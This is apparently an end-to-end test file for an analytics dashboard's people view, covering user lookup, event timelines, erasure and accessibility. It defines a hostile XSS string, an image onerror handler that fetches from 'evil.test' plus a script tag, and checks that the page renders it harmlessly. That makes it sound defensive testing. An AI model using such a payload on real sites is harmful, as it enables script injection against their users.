import type { Page } from 'playwright-core'
import { expect, test } from 'vitest'
import { settled, useDashboard, violations } from './dashboard.ts'

/** The view of people finds a person, shows what the API knows of them, and erases them. */

const dashboard = useDashboard()

const HOSTILE = `"><img src=x onerror="fetch('https://evil.test')"><script>document.title='owned'</script>`

async function newProject(): Promise<{ name: string; token: string }> {
  const name = `people-${Math.random().toString(36).slice(2)}`
  const created = await dashboard.post<{ project_token: string }>('/projects', { name }, 201)
  return { name, token: created.project_token }
}

/** Loads the page until it shows the text: reports are two seconds behind. */
async function waitFor(page: Page, text: string): Promise<void> {
  await expect
    .poll(
      async () => {
        await page.reload()
        await settled(page)
        return page.locator('main').innerText()
      },
      { timeout: 60_000 },
    )
    .toContain(text)
}

test('the most active people, and the time line of one, are those of the API', async () => {
  const page = await dashboard.open('/app/p/demo/people?range=14d')
  await settled(page)
  const { rows } = await dashboard.post<{ rows: { user_id: string; event_count: number; other?: true }[] }>(
    '/query',
    {
      ...{ project: 'demo', date_from: '13d', tz: 'Europe/Berlin', count_mode: 'raw' },
      ...{ metrics: ['event_count', 'session_count'], group_by: ['user_id'], limit: 50 },
    },
  )
  const known = rows.filter(row => row.other !== true)
  const shown = page.getByRole('table', { name: 'People by events' }).locator('tbody tr')
  expect(
    await shown.evaluateAll(each =>
      each.map(row => [...row.children].slice(0, 2).map(cell => cell.textContent)),
    ),
  ).toEqual(known.map(row => [row.user_id, row.event_count.toLocaleString('en-GB')]))
  const user = known[0]?.user_id as string
  await page.getByRole('link', { name: user }).click()
  await page.waitForURL(/user=/)
  const list = page.getByRole('list', { name: 'Events of the person' })
  await list.waitFor()
  const asked = { project: 'demo', user_id: user, since: '13d', limit: 200 }
  const { events } = await dashboard.post<{ events: { event: string }[] }>('/journey', asked)
  expect(await list.locator('summary strong').allInnerTexts()).toEqual(events.map(({ event }) => event))
  const response = await fetch(
    `${dashboard.service.baseUrl}/users/-?project=demo&dry_run=true&user_id=${encodeURIComponent(user)}`,
    { method: 'DELETE', headers: { 'X-API-Key': dashboard.service.credentials.api_key } },
  )
  const dryRun = (await response.json()) as { events: number; count: number }
  expect(await page.locator('[data-number="all-events"] dd').innerText()).toBe(
    dryRun.events.toLocaleString('en-GB'),
  )
})

test('by keyboard alone: an e-mail address finds its person and is not in the address; an unknown one is said', async () => {
  const { name, token } = await newProject()
  await dashboard.post('/track', { token, event: 'signup', user_id: 'ada', session_id: 's1' }, 202)
  const traits = { email: 'ada@example.com', note: HOSTILE }
  await dashboard.post('/identify', { token, previous_id: 'anon_0123456789ab', user_id: 'ada', traits }, 202)
  // Events and identify requests are stored by two consumers, and the view asks only once.
  const lookUp = () =>
    dashboard.post<{ profiles: unknown[] }>('/journey/lookup', { project: name, email: traits.email })
  await expect.poll(async () => (await lookUp()).profiles.length, { timeout: 60_000 }).toBe(1)
  const page = await dashboard.open(`/app/p/${name}/people?range=7d`)
  await waitFor(page, 'ada')
  const field = page.getByRole('searchbox', { name: /Id or e-mail/ })
  await field.focus()
  await page.keyboard.type('nobody@example.com')
  await page.keyboard.press('Enter')
  await page.getByText('Nobody has this address').waitFor()
  expect(page.url()).not.toContain('example.com')
  await field.fill('ada@example.com')
  await page.keyboard.press('Enter')
  await page.waitForURL(/user=ada$/)
  await page.getByText(HOSTILE).waitFor()
  expect(await page.locator('main img, main script').count()).toBe(0)
})

test('an id that nobody has is said so, also where it is hostile', async () => {
  const page = await dashboard.open(`/app/p/demo/people?user=${encodeURIComponent(HOSTILE)}`)
  await page.getByText('Nobody with this id').waitFor()
  expect(await page.locator('main img, main script').count()).toBe(0)
})

test('a person is erased after their id is typed, and the receipt stands in their place', async () => {
  const { name, token } = await newProject()
  await dashboard.post('/track', { token, event: 'signup', user_id: 'user/1', session_id: 's1' }, 202)
  const page = await dashboard.open(`/app/p/${name}/people?range=7d&user=user%2F1`)
  await waitFor(page, 'Erase this person')
  const erase = page.getByRole('button', { name: 'Erase the person' })
  expect(await erase.isDisabled()).toBe(true)
  await page.getByLabel('Type the id').fill('user/1')
  await erase.click()
  await page.waitForURL(/erasure=/)
  expect(page.url()).not.toContain('user')
  await page.getByText('in no report any more').or(page.getByText('No file has events')).waitFor()
  const { events } = await dashboard.post<{ events: unknown[] }>('/journey', {
    project: name,
    user_id: 'user/1',
  })
  expect(events).toEqual([])
})

test('the time line of a person is accessible, light and dark', async () => {
  const page = await dashboard.open('/app/p/demo/people')
  await page.getByRole('table', { name: 'People by events' }).getByRole('link').first().click()
  await page.getByRole('list', { name: 'Events of the person' }).waitFor()
  await settled(page)
  expect(await violations(page)).toEqual([])
})
